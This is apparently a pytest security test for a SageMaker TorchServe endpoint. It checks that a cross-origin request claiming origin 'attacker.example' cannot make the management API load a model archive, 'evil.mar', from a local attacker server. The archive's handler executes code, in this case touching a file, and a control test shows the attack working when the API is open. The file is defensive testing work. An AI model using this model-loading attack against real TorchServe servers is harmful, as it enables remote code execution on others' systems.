"""TorchServe under attack: a web page asks its management API to load a model from a URL, which runs its code."""

from __future__ import annotations

import http.server
import io
import json
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import requests

from sagemaker_launch.rehearsal.endpoints.aws_server import AwsServer
from sagemaker_launch.shipping.archive import pack_model, unpack_model
from tests.unit.lightning_modules.test_export import export, tiny_network

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("archive")
    archive = pack_model(export(tiny_network(), folder / "export"), folder / "model.tar.gz")
    return unpack_model(archive, folder / "model")


class Attacker(http.server.ThreadingHTTPServer):
    """Gives away a model archive whose handler leaves a file, and notes who asks for it."""

    def __init__(self, archive: bytes) -> None:
        asked = self.asked = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(archive)))
                self.end_headers()
                self.wfile.write(archive)

            def log_message(self, *_: object) -> None:
                """Log nothing."""

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/evil.mar"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    packed = io.BytesIO()
    manifest = {"createdOn": "1/1/2026", "runtime": "python", "archiverVersion": "0.12.0"}
    manifest["model"] = {"modelName": "evil", "handler": "handler.py", "modelVersion": "1.0"}  # type: ignore[assignment]
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        # The home folder of the container is its tree's, which the test can see.
        archive.writestr("handler.py", "import os, pathlib\npathlib.Path(os.environ['HOME'], 'ran').touch()\n")
    with Attacker(packed.getvalue()) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def attack(server: AwsServer, attacker: Attacker) -> int:
    """What a page of the attacker can send without asking the browser's leave; the status."""
    question = {"url": attacker.url, "initial_workers": "1", "synchronous": "false", "model_name": "evil"}
    headers = {"Origin": "http://attacker.example", "Content-Type": "text/plain"}
    return requests.post(f"{server.url}/models", params=question, headers=headers, timeout=60).status_code


def ran(server: AwsServer) -> bool:
    return (server.tree / "home" / "ran").exists()


def test_no_page_loads_a_model_into_an_endpoint(
    model: Path, start_torchserve: Callable[[Path, Path], AwsServer], attacker: Attacker, tmp_path: Path
) -> None:
    with start_torchserve(tmp_path / "tree", model) as server:
        server.wait_until_ready()
        assert attack(server, attacker) in (403, 405)
        assert requests.delete(f"{server.url}/models/model", timeout=60).status_code in (403, 405)
        time.sleep(2)
        assert attacker.asked == [] and not ran(server)
        photo = (model / "golden" / "image.jpg").read_bytes()
        answer = requests.post(f"{server.url}/invocations", photo, headers={"Content-Type": "image/jpeg"}, timeout=60)
        assert answer.status_code == 200


def test_the_attack_works_where_the_api_is_open(
    model: Path, start_torchserve: Callable[..., AwsServer], attacker: Attacker, tmp_path: Path
) -> None:
    """So a refusal above is one of TorchServe, not a mistake of the attack."""
    server = start_torchserve(tmp_path / "tree", model, {"TS_ENABLE_MODEL_API": "true"})
    with server:
        server.wait_until_ready()
        assert attack(server, attacker) in (200, 202)
        until = time.monotonic() + 60
        while not ran(server):
            assert time.monotonic() < until, server.log[-2000:]
            time.sleep(0.1)
        assert attacker.asked == ["/evil.mar"]
